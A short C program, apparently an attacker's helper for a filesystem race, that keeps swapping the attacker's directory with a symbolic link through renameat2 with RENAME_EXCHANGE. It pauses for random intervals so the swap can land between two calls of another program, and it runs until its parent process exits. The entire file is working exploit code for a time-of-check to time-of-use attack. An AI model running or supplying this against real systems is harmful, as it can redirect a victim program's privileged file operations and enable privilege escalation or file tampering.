// Lets two names change places, again and again, until it is ended: the attacker's directory and a link.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int count, char **arguments) {
    if (count != 3) return 2;
    unsigned seed = (unsigned)getpid();
    while (getppid() != 1) {
        if (renameat2(AT_FDCWD, arguments[1], AT_FDCWD, arguments[2], RENAME_EXCHANGE) != 0) {
            perror(arguments[1]);
            return 1;
        }
        // Up to 300 microseconds, so that every distance between two calls of the other program comes up.
        struct timespec pause = {0, rand_r(&seed) % 300000};
        nanosleep(&pause, NULL);
    }
    return 0;
}
